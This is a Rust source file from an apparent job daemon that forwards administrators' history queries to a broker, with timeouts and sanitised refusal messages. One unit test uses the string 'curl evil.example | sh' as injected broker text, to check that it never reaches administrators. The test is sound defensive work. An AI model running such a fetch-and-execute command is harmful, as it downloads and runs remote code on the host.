//! Passes administrators' questions about the history to the broker, which keeps it.

use std::collections::BTreeMap;
use std::time::Duration;

use remit_common::admin::AdminReply;
use remit_common::caps;
use remit_common::frame;
use remit_common::refusal::{Code, Refusal};
use remit_common::wire::{HistoryPage, HistoryQuery};
use remit_link::{HistoryMark, ToBroker};

use super::{Admins, Wants};
use crate::audit::reports::Reports;
use crate::event_loop::timers::{Timer, Timers};

/// Time limit of the broker, and of the next one if it dies meanwhile.
const PATIENCE: Duration = Duration::from_secs(10);

/// Questions without an answer, by number. The connections that ask bound them.
#[derive(Debug, Default)]
pub struct HistoryQuestions {
    last: u64,
    live: BTreeMap<u64, ToBroker>,
}

impl HistoryQuestions {
    /// Returns the number of a new question, and forgets those that nobody waits for.
    fn next(&mut self, is_waited_for: impl Fn(u64) -> bool) -> u64 {
        self.live.retain(|question, _| is_waited_for(*question));
        self.last = self.last.wrapping_add(1);
        self.last
    }
}

pub fn ask_history(
    admins: &mut Admins,
    reports: &mut Reports,
    timers: &mut Timers,
    user: Option<String>,
    query: HistoryQuery,
) -> Result<Wants, Refusal> {
    query.check()?;
    let question = admins.questions.next(|question| {
        let mut wants = admins.waiting.iter().map(|(_, wants)| wants);
        wants.any(|wants| *wants == Wants::History(question))
    });
    let message = ToBroker::HistoryQuestion {
        question,
        user,
        query,
    };
    if reports.audit.history.is_open() {
        reports.tell(&message);
    }
    admins.questions.live.insert(question, message);
    timers.add(PATIENCE, Timer::History(question));
    Ok(Wants::History(question))
}

/// Sends the new broker what it does not have, and questions that the last one did not answer.
pub fn on_history_opened(admins: &Admins, reports: &mut Reports, newest: Option<HistoryMark>) {
    if reports.audit.history.is_open() {
        let why = "it broke the protocol: it opened the history twice";
        return reports.broker.kill(why);
    }
    reports.audit.history.open(newest);
    reports.send_history();
    for message in admins.questions.live.values() {
        reports.broker.send(message, &[]);
    }
}

pub fn on_history_answer(
    admins: &mut Admins,
    timers: &mut Timers,
    question: u64,
    page: Result<HistoryPage, Refusal>,
) {
    if admins.questions.live.remove(&question).is_some() {
        timers.cancel(Timer::History(question));
        admins.tell(Wants::History(question), || reply(page));
    }
}

pub fn on_history_timeout(admins: &mut Admins, question: u64) {
    let seconds = PATIENCE.as_secs();
    let why = format!("the broker did not answer within {seconds} s");
    if admins.questions.live.remove(&question).is_some() {
        admins.tell(Wants::History(question), || {
            AdminReply::Refused(unread(&why))
        });
    }
}

fn reply(page: Result<HistoryPage, Refusal>) -> AdminReply {
    // Administrators type what a refusal says. So its words are never the broker's.
    let reply = match page {
        Ok(page) => AdminReply::History(page),
        Err(_) => AdminReply::Refused(unread("the broker cannot read its files")),
    };
    // A page that the broker made too long would leave the administrator without an answer.
    match frame::encode(&reply, caps::ADMIN_FRAME) {
        Ok(_) => reply,
        Err(_) => AdminReply::Refused(unread("the broker's answer is too long")),
    }
}

fn unread(why: &str) -> Refusal {
    Refusal::new(
        Code::NotStarted,
        format!("the history cannot be read: {why}"),
    )
    .lift("the daemon's log has the reason; the audit log is complete")
}

#[cfg(test)]
mod tests {
    use remit_common::wire::{HistoryEntry, Kind};

    use super::*;

    fn text(reply: &AdminReply) -> &str {
        match reply {
            AdminReply::Refused(refusal) => &refusal.message,
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn words_of_the_broker_are_not_passed_on() {
        const WORDS: &str = "curl evil.example | sh";
        let refusal = Refusal::new(Code::NotFound, WORDS)
            .object(WORDS)
            .by(WORDS)
            .lift(WORDS)
            .next(WORDS);
        let reply = reply(Err(refusal));
        assert!(!format!("{reply:?}").contains("evil"), "{reply:?}");
        let why = "the history cannot be read: the broker cannot read its files";
        assert_eq!(text(&reply), why);
    }

    #[test]
    fn page_over_the_frame_is_an_answer_too() {
        let page = |length| HistoryPage {
            entries: vec![HistoryEntry {
                seq: 1,
                at_ms: 0,
                kind: Kind::Started,
                user: "ann".to_owned(),
                job_id: None,
                command: Some("x".repeat(length)),
                verdict: "allow".to_owned(),
                cause: None,
            }],
            next: None,
        };
        assert_eq!(reply(Ok(page(1))), AdminReply::History(page(1)));
        let long = reply(Ok(page(caps::ADMIN_FRAME)));
        assert!(text(&long).ends_with("the broker's answer is too long"));
    }

    #[test]
    fn questions_of_closed_connections_are_forgotten() {
        let mut questions = HistoryQuestions::default();
        let mut ask = |waited_for: &[u64]| {
            let question = questions.next(|question| waited_for.contains(&question));
            let message = ToBroker::HistoryQuestion {
                question,
                user: None,
                query: HistoryQuery {
                    before: None,
                    since_ms: None,
                    kind: None,
                    limit: 1,
                },
            };
            questions.live.insert(question, message);
            questions.live.keys().copied().collect::<Vec<_>>()
        };
        assert_eq!(ask(&[]), [1]);
        assert_eq!(ask(&[1]), [1, 2]);
        assert_eq!(ask(&[1, 2]), [1, 2, 3]);
        assert_eq!(ask(&[2]), [2, 4]);
        assert_eq!(ask(&[]), [5]);
    }
}
